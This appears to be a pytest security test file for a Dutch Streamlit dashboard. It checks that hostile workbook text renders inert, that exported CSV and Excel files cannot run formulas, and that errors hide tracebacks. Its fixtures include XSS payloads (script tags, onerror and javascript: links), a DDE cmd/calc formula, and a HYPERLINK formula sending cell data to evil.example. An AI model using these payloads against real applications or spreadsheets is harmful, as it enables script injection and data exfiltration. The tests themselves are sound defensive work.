"""Hostile input: workbook text with HTML, scripts, javascript: links and very long strings stays inert text;
downloads cannot run formulas; an upload over the limit gets a Dutch message; a visitor never sees a traceback.

The browser tests use Debian's chromium (skipped locally without it, failing in CI).
"""

from __future__ import annotations

import csv
import io
import logging
import textwrap

import pytest
from openpyxl import load_workbook
from streamlit.testing.v1 import AppTest

from dashboard import layout
from support import sample
from support.browser import ROOT, browser, exception_texts, settle, streamlit_server
from tests import apptest
from workbook import contract

APP = str(ROOT / "app.py")
SCRIPT = '<script>window.__pwned = "wat"</script>'
IMAGE = '<img src="x" onerror="window.__pwned = \'img\'">'
MD_LINK = "[klik hier](javascript:window.__pwned='link')"
HTML_LINK = "<a href=\"javascript:window.__pwned='a'\">link</a>"
LONG = ("Heel lange voortgangstekst zonder einde " * 800)[:30_000]  # an Excel cell holds at most 32 767 characters
FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"  # text in the workbook (a cell starting with = would be a formula there)
FORMULA_2 = '+HYPERLINK("https://evil.example/?q="&A1,"klik")'


def hostile_data() -> dict:
    data = sample.sample_data()
    actions = data[contract.SHEET_ACTIONS]
    actions[0][contract.COL_WHAT] = f"Gelijkwaardig {SCRIPT} {IMAGE}"
    actions[0]["Voortgang najaar 2025"] = f"Zie {MD_LINK} of {HTML_LINK}."
    actions[2]["Voortgang najaar 2025"] = LONG
    actions[1][contract.COL_WHAT] = FORMULA
    actions[1][contract.COL_WHEN] = FORMULA_2
    data[contract.SHEET_GOALS][0][contract.COL_TITLE] = (
        "Gelijkwaardigheid <b onmouseover=\"window.__pwned='goal'\">vet</b>"
    )
    data[contract.SHEET_BUDGET][0][contract.COL_DESCRIPTION] = f"Totaal {IMAGE}"
    data[contract.SHEET_ROUNDS][1][contract.COL_SOURCE] = f"Voortgangsbrief {MD_LINK}"
    return data


# --- in a real browser ----------------------------------------------------------------------------------------
INJECTED = """() => ({
    pwned: window.__pwned === undefined ? null : String(window.__pwned),
    javascriptLinks: Array.from(document.querySelectorAll('a[href]')).filter(a =>
    /^\\s*javascript:/i.test(a.getAttribute('href'))).length,
    images: document.querySelectorAll('img[src="x"], img[onerror]').length,
    scripts: Array.from(document.querySelectorAll('script')).filter(s => s.textContent.includes('__pwned')).length,
    handlers: document.querySelectorAll('[onmouseover], [onerror]').length,
    bold: Array.from(document.querySelectorAll('[data-testid="stMain"] b')).filter(b => b.textContent === 'vet').length,
})"""
CLEAN = {"pwned": None, "javascriptLinks": 0, "images": 0, "scripts": 0, "handlers": 0, "bold": 0}


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory):
    path = sample.build(tmp_path_factory.mktemp("hostile"), hostile_data(), name="vijandig.xlsx")
    with streamlit_server({"WERKBOEK_PAD": str(path)}) as base:
        yield base


@pytest.fixture(scope="module")
def chromium():
    with browser() as instance:
        yield instance


@pytest.mark.browser
@pytest.mark.parametrize("name", ["overzicht", "doelstellingen", "partijen", "budget", "tijdlijn", "bijwerken", "over"])
def test_hostile_workbook_text_injects_nothing_on_any_page(hostile_server, chromium, name):
    page = chromium.new_page(viewport={"width": 1440, "height": 900})
    page.goto(f"{hostile_server}/{name}")
    page.get_by_text("Getoond werkboek").wait_for(timeout=30_000)
    settle(page)
    for summary in page.locator('[data-testid="stExpander"] summary').all()[:8]:  # open the actions: their texts render
        summary.click()
    page.mouse.move(700, 500)  # hover over the charts: tooltips render too
    page.wait_for_timeout(500)
    assert exception_texts(page) == []
    assert page.evaluate(INJECTED) == CLEAN
    assert "Traceback" not in page.locator('[data-testid="stMain"]').inner_text()
    page.close()


@pytest.mark.browser
def test_hostile_text_is_visible_literally(hostile_server, chromium):
    page = chromium.new_page(viewport={"width": 1440, "height": 900})
    page.goto(f"{hostile_server}/doelstellingen?doel=1.1")
    page.get_by_text("Getoond werkboek").wait_for(timeout=30_000)
    settle(page)
    for summary in page.locator('[data-testid="stExpander"] summary').all():
        summary.click()
    page.wait_for_timeout(500)
    text = page.locator('[data-testid="stMain"]').inner_text()
    for literal in (SCRIPT, IMAGE, MD_LINK, HTML_LINK, "<b onmouseover="):
        assert literal in text, literal
    assert page.evaluate(INJECTED) == CLEAN
    page.goto(f"{hostile_server}/doelstellingen?doel=1.2")
    page.get_by_text("Getoond werkboek").wait_for(timeout=30_000)
    settle(page)
    page.locator('[data-testid="stExpander"] summary').filter(has_text=" · ").first.click()  # the first action
    page.wait_for_timeout(500)
    assert (
        LONG[:2000] in page.locator('[data-testid="stMain"]').inner_text()
    )  # the long text is shown, not cut off or broken
    width = page.evaluate("() => document.querySelector('[data-testid=\"stMain\"]').scrollWidth")
    assert width <= 1440  # and wraps: no sideways scrolling
    assert exception_texts(page) == []
    page.close()


@pytest.mark.browser
def test_an_error_shows_no_traceback_and_is_logged_in_detail(chromium, tmp_path):
    """Whatever escapes the app's own handling: client.showErrorDetails = "none" keeps the detail in the log."""
    script = tmp_path / "kapot.py"
    script.write_text(
        textwrap.dedent("""
        import streamlit as st
        st.title("Kapot")
        raise RuntimeError("geheim-detail-12345 uit /etc/passwd")
    """),
        encoding="utf-8",
    )
    with streamlit_server(script=str(script)) as base:
        page = chromium.new_page()
        page.goto(base)
        page.locator('[data-testid="stException"]').wait_for(timeout=30_000)
        shown = page.locator('[data-testid="stMain"]').inner_text()
        assert "geheim-detail-12345" not in shown and "Traceback" not in shown and "RuntimeError" not in shown
        assert "raise RuntimeError" not in shown and "kapot.py" not in shown
        page.close()
        log_text = (ROOT / "artifacts" / f"streamlit-{base.rsplit(':', 1)[1]}.log").read_text(
            encoding="utf-8", errors="replace"
        )
    assert "geheim-detail-12345" in log_text and "Traceback" in log_text  # the detail is in the server log


# --- AppTest ------------------------------------------------------------------------------------------------
@pytest.fixture
def hostile_app(tmp_path, monkeypatch):
    monkeypatch.setenv("WERKBOEK_PAD", str(sample.build(tmp_path, hostile_data(), name="vijandig.xlsx")))
    apptest.install(monkeypatch)
    return apptest.run_page


def test_downloads_of_hostile_text_cannot_run_formulas(hostile_app):
    at = hostile_app("doelstellingen", doel="1.1")
    csv_bytes, _ = apptest.download(at, "als CSV")
    xlsx_bytes, _ = apptest.download(at, "als Excel")

    rows = list(csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig")), delimiter=";"))
    what = {row[0]: row[rows[0].index(contract.COL_WHAT)] for row in rows[1:]}
    when = {row[0]: row[rows[0].index(contract.COL_WHEN)] for row in rows[1:]}
    assert what["1.1-02"] == "'" + FORMULA and when["1.1-02"] == "'" + FORMULA_2  # shown as typed, never run
    assert what["1.1-01"].startswith("Gelijkwaardig <script>")  # other text unchanged
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

    sheet = load_workbook(io.BytesIO(xlsx_bytes)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert {"'" + FORMULA, "'" + FORMULA_2} <= {cell.value for cell in cells}
    assert all(cell.data_type == "s" for cell in cells)  # text, never a formula


def test_an_upload_over_the_limit_gets_a_dutch_message(tmp_path, monkeypatch):
    monkeypatch.setenv("WERKBOEK_PAD", str(sample.build(tmp_path)))
    monkeypatch.setenv("WERKAGENDA_MAX_UPLOAD_MB", "1")
    at = AppTest.from_file(APP, default_timeout=60)
    at.switch_page("pages/bijwerken.py").run()
    uploader = at.file_uploader(key="nieuwe-versie")
    assert "ten hoogste 1 MB" in uploader.label
    big = sample.build(tmp_path, name="groot.xlsx").read_bytes() + b"\0" * (1024 * 1024 + 1)
    uploader.set_value(("groot.xlsx", big, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")).run()
    assert not at.exception
    messages = [e.value for e in at.error]
    assert any("ten hoogste 1 MB" in m and "Het bestand is" in m for m in messages), messages
    assert not at.get("download_button") or all("opmerkingen" not in b.proto.label for b in at.get("download_button"))


def test_a_failing_page_gives_one_dutch_sentence_and_logs_the_detail(hostile_app, monkeypatch, caplog):
    from views import overview

    def broken(*args, **kwargs):
        raise RuntimeError("geheim-detail-67890")

    monkeypatch.setattr(overview, "view", broken)
    with caplog.at_level(logging.ERROR, logger="dashboard.pages"):
        at = hostile_app("overzicht")  # asserts: no exception element
    assert layout.PAGE_FAILED in [e.value for e in at.error]
    shown = "\n".join(str(e.value) for e in [*at.error, *at.markdown, *at.caption])
    assert "geheim-detail-67890" not in shown
    assert any(
        "geheim-detail-67890" in (r.exc_text or "") or (r.exc_info and "geheim-detail-67890" in str(r.exc_info[1]))
        for r in caplog.records
    )
    assert any(c.value == "Getoond werkboek" for c in at.sidebar.caption)  # the menu and sidebar stay usable


@pytest.mark.parametrize("page", ["overzicht", "doelstellingen", "partijen", "budget", "tijdlijn", "over", "bijlage"])
def test_hostile_workbook_renders_every_page_in_apptest(hostile_app, page):
    at = hostile_app(page)
    texts = [m.value for m in at.markdown] + [c.value for c in at.caption] + [e.label for e in at.expander]
    assert not any("<script>" in t or "](javascript:" in t for t in texts)  # every such text is escaped for markdown
